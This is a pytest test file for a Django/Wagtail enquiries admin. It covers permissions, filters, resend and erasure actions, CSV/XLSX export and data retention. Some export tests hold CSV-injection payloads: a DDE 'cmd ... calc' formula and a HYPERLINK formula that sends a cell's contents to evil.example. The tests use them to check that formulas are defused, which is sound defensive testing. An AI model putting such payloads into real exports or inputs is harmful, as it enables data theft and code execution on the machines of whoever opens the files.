"""Editors' view of enquiries (permissions, filters, actions, CSV) and retention/erasure."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import openpyxl
import pytest
from django.contrib.auth.models import Group, Permission
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from django_tasks_db.models import DBTaskResult

from enquiries.delivery import enqueue_send, send_enquiry_email
from enquiries.maintenance import MAINTENANCE, enquiry_maintenance
from enquiries.models import ContactTopic, Enquiry, Status
from enquiries.retention import retention_period_text
from tests.task_worker import run_worker

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("topics")]


def make_enquiry(email: str = "sam@example.org", **fields) -> Enquiry:
    topic = ContactTopic.objects.get(name="A general question")
    enquiry = Enquiry.objects.create(
        name=fields.pop("name", "Sam"),
        email=email,
        role="parent",
        topic=topic,
        topic_name=topic.name,
        message=fields.pop("message", "Hello"),
        **fields,
    )
    if enquiry.status == Status.QUEUED:
        enqueue_send(enquiry)
    return enquiry


def queued_send_args() -> list[list[int]]:
    """The arguments of every send task still in the queue table."""
    rows = DBTaskResult.objects.filter(task_path=send_enquiry_email.module_path)
    return [row.args_kwargs["args"] for row in rows]


def editor(django_user_model, *codenames: str):
    user = django_user_model.objects.create_user("editor-" + "-".join(codenames), password="pw")
    group = Group.objects.create(name="Editors " + "-".join(codenames))
    group.permissions.add(Permission.objects.get(codename="access_admin"))
    for codename in codenames:
        group.permissions.add(Permission.objects.get(codename=codename))
    user.groups.add(group)
    return user


@pytest.fixture
def enquiry() -> Enquiry:
    return make_enquiry()


def test_editor_without_permission_cannot_see_enquiries(client, django_user_model, enquiry):
    client.force_login(editor(django_user_model))
    for url in (
        reverse("enquiries_enquiry:index"),
        reverse("enquiries_enquiry:inspect", args=[enquiry.pk]),
        reverse("enquiries_enquiry:by_email") + "?email=sam@example.org",
    ):
        response = client.get(url)
        assert response.status_code in (302, 403), url
        assert b"sam@example.org" not in response.content
    response = client.post(reverse("enquiries_enquiry:resend", args=[enquiry.pk]))
    assert response.status_code in (302, 403)
    admin_home = client.get("/admin/").content.decode()
    assert reverse("enquiries_enquiry:index") not in admin_home


def test_viewer_sees_list_filters_detail_and_csv(client, django_user_model, enquiry):
    make_enquiry(email="spam@example.org", status=Status.SPAM, flagged_as_spam=True)
    client.force_login(editor(django_user_model, "view_enquiry"))
    index = client.get(reverse("enquiries_enquiry:index"))
    assert index.status_code == 200
    assert enquiry.reference in index.content.decode()
    assert reverse("enquiries_enquiry:index") + "new/" not in index.content.decode()

    spam_only = client.get(reverse("enquiries_enquiry:index"), {"status": "spam"}).content.decode()
    assert enquiry.reference not in spam_only
    flagged = client.get(reverse("enquiries_enquiry:index"), {"flagged_as_spam": "true"})
    assert enquiry.reference not in flagged.content.decode()
    by_topic = client.get(reverse("enquiries_enquiry:index"), {"topic": enquiry.topic_id})
    assert enquiry.reference in by_topic.content.decode()

    detail = client.get(reverse("enquiries_enquiry:inspect", args=[enquiry.pk]))
    assert detail.status_code == 200
    assert "Hello" in detail.content.decode()

    export = client.get(reverse("enquiries_enquiry:index"), {"export": "csv"})
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    assert any(enquiry.reference in row for row in rows)

    # Viewing is not changing: no resend without the change permission.
    Enquiry.objects.filter(pk=enquiry.pk).update(status=Status.FAILED)
    response = client.post(reverse("enquiries_enquiry:resend", args=[enquiry.pk]))
    assert response.status_code in (302, 403)  # Wagtail turns PermissionDenied into a redirect
    enquiry.refresh_from_db()
    assert enquiry.status == Status.FAILED


def test_no_one_can_add_an_enquiry_in_the_admin(admin_client):
    index = admin_client.get(reverse("enquiries_enquiry:index")).content.decode()
    assert "/admin/enquiries_enquiry/new/" not in index
    assert admin_client.get("/admin/enquiries_enquiry/new/").status_code == 404


def test_resend_failed_and_release_spam(client, django_user_model):
    failed = make_enquiry(status=Status.FAILED)
    spam = make_enquiry(status=Status.SPAM, flagged_as_spam=True, spam_reason="Honeypot")
    client.force_login(editor(django_user_model, "view_enquiry", "change_enquiry"))
    page = client.get(reverse("enquiries_enquiry:inspect", args=[failed.pk])).content.decode()
    assert reverse("enquiries_enquiry:resend", args=[failed.pk]) in page
    client.post(reverse("enquiries_enquiry:resend", args=[failed.pk]))
    client.post(reverse("enquiries_enquiry:release", args=[spam.pk]))
    failed.refresh_from_db()
    spam.refresh_from_db()
    assert failed.status == Status.QUEUED and spam.status == Status.QUEUED
    assert spam.flagged_as_spam  # the flag stays for the record
    for enquiry in (failed, spam):
        assert DBTaskResult.objects.get(id=enquiry.task_id).status == "READY"
    assert client.get(reverse("enquiries_enquiry:resend", args=[failed.pk])).status_code == 405


def test_export_and_erase_by_email(client, django_user_model):
    mine = [make_enquiry("Sam@Example.org", message="=cmd|' /C calc'!A0"), make_enquiry()]
    other = make_enquiry("someone.else@example.org")
    url = reverse("enquiries_enquiry:by_email")

    client.force_login(editor(django_user_model, "view_enquiry"))
    listing = client.get(url, {"email": "sam@example.org"}).content.decode()
    assert mine[0].reference in listing and other.reference not in listing
    assert "Erase them all" not in listing
    export = client.post(url, {"email": "sam@example.org", "action": "export"})
    rows = list(csv.reader(io.StringIO(export.content.decode())))
    assert rows[0][0] == "reference" and len(rows) == 3
    assert "'=cmd|' /C calc'!A0" in rows[1]  # formula defused for spreadsheets
    response = client.post(url, {"email": "sam@example.org", "action": "erase", "confirm": "yes"})
    assert response.status_code in (302, 403)
    assert Enquiry.objects.count() == 3

    client.force_login(editor(django_user_model, "view_enquiry", "delete_enquiry"))
    client.post(url, {"email": "sam@example.org", "action": "erase"})
    assert Enquiry.objects.count() == 3  # not confirmed
    response = client.post(url, {"email": "sam@example.org", "action": "erase", "confirm": "yes"})
    assert response.status_code == 302
    assert list(Enquiry.objects.all()) == [other]
    assert queued_send_args() == [[other.pk]]


# OWASP's list of cell starts a spreadsheet may take as a formula.
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def test_both_exports_defuse_formulas_and_leave_other_text_alone(client, django_user_model):
    """`=HYPERLINK(...)` sent through the contact form must arrive as text in every export."""
    for start in FORMULA_STARTS:
        make_enquiry(
            name=f'{start}HYPERLINK("https://evil.example/?"&A1,"Open")',
            message=f"{start}1+1",
        )
    make_enquiry(name="Sam O'Neill", message="Hello, -5 degrees @ home = cold")
    names = [f'\'{start}HYPERLINK("https://evil.example/?"&A1,"Open")' for start in FORMULA_STARTS]
    messages = [f"'{start}1+1" for start in FORMULA_STARTS]
    expected = [
        *zip(names, messages, strict=True),
        ("Sam O'Neill", "Hello, -5 degrees @ home = cold"),
    ]
    client.force_login(editor(django_user_model, "view_enquiry"))

    def name_and_message(rows: list[list], name_heading: str, message_heading: str):
        heading = list(rows[0])
        at_name, at_message = heading.index(name_heading), heading.index(message_heading)
        return sorted((row[at_name], row[at_message]) for row in rows[1:])

    # The subject-access export (by email address).
    export = client.post(
        reverse("enquiries_enquiry:by_email"), {"email": "sam@example.org", "action": "export"}
    )
    rows = list(csv.reader(io.StringIO(export.content.decode())))
    assert name_and_message(rows, "name", "message") == sorted(expected)

    # The Enquiries list's "Download CSV".
    export = client.get(reverse("enquiries_enquiry:index"), {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    assert name_and_message(rows, "Name", "Message") == sorted(expected)

    # ... and its "Download XLSX".
    export = client.get(reverse("enquiries_enquiry:index"), {"export": "xlsx"})
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(export.streaming_content)))
    rows = [list(row) for row in workbook.active.iter_rows(values_only=True)]
    in_xlsx = [(n.replace("\r", "\n"), m.replace("\r", "\n")) for n, m in expected]  # XML's \r
    assert name_and_message(rows, "Name", "Message") == sorted(in_xlsx)


def test_purge_deletes_old_enquiries_and_their_queue_rows(settings):
    settings.ENQUIRY_RETENTION_DAYS = 30
    old = make_enquiry()
    Enquiry.objects.filter(pk=old.pk).update(created_at=timezone.now() - timedelta(days=31))
    recent = make_enquiry()
    out = io.StringIO()
    call_command("purge_enquiries", stdout=out)
    assert "Deleted 1 enquiries older than 30 days" in out.getvalue()
    assert list(Enquiry.objects.all()) == [recent]
    assert queued_send_args() == [[recent.pk]]


def test_maintenance_task_runs_sweep_and_purge_and_reschedules_itself(settings):
    settings.ENQUIRY_RETENTION_DAYS = 30
    old = make_enquiry()
    Enquiry.objects.filter(pk=old.pk).update(created_at=timezone.now() - timedelta(days=31))
    DBTaskResult.objects.filter(task_path=enquiry_maintenance.module_path).delete()
    assert MAINTENANCE.ensure_scheduled() is True
    assert MAINTENANCE.ensure_scheduled() is False  # never two chains
    run_worker("maintenance")
    assert not Enquiry.objects.filter(pk=old.pk).exists()
    rows = DBTaskResult.objects.filter(task_path=enquiry_maintenance.module_path)
    assert rows.filter(status="SUCCESSFUL").count() == 1
    upcoming = rows.get(status="READY")
    assert upcoming.run_after > timezone.now() + timedelta(minutes=10)


def test_sweep_command(settings):
    out = io.StringIO()
    call_command("sweep_enquiries", stdout=out)
    assert "Re-queued 0 enquiries." in out.getvalue()


def test_retention_period_wording():
    assert retention_period_text(365) == "1 year"
    assert retention_period_text(730) == "2 years"
    assert retention_period_text(90) == "90 days"


def test_contact_topics_are_editable_in_the_admin(admin_client):
    response = admin_client.get(reverse("enquiries_topic:index"))
    assert response.status_code == 200
    assert "Babies First posters" in response.content.decode()
